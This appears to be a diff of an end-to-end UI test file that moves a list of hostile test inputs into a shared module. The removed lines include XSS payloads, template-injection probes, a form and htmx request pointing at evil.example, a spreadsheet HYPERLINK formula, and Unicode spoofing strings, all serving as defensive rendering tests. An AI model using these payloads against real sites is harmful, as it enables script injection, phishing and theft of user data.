@@ -7,23 +7,7 @@ from playwright.sync_api import expect
 
 from tests.e2e.console.conftest import Desk
 from tests.e2e.console.test_screens import fits
-
-HOSTILE = [
-    "<script>alert(1)</script><img src=x onerror=alert(2)>",
-    '"><svg/onload=alert(3)><math><mtext></mtext><mglyph><style><img src=x onerror=alert(4)>',
-    "[click](javascript:alert(5)) javascript:alert(6) data:text/html,<script>alert(7)</script>",
-    "<a href=\"javascript:alert(8)\" style='position:fixed;inset:0'>all of it</a>",
-    "</div></article></main><form action=https://evil.example><button>Approve</button>",
-    "{{ 7*7 }} {% raw %} ${7*7} #{7*7} <%= 7*7 %> {{constructor.constructor('alert(9)')()}}",
-    '<b hx-get="https://evil.example/" hx-trigger="load">x</b> <meta http-equiv=refresh content=0>',
-    "Pay \u202egnp.exe\u202c at \u2066here\u2069 and \u200bnow\ufeff",
-    "Z" + "\u0334\u0335\u0336\u0337\u0338" * 400 + "algo " + "e" + "\u0301" * 3000,
-    "\x1b[31mred\x1b[0m \x00nul \x07bell \x85 =HYPERLINK(\"https://evil.example\")",
-    "W" * 65_000,
-    "\n" * 3000 + "below",
-    "https://" + "a" * 3000 + ".example/" + "b" * 5000,
-    "https://xn--pypal-4ve.example/ https://user@evil.example:99/?x=<script>",
-]  # fmt: skip
+from tests.hostile import HOSTILE
 
 
 @pytest.mark.parametrize("width", [1280, 360])
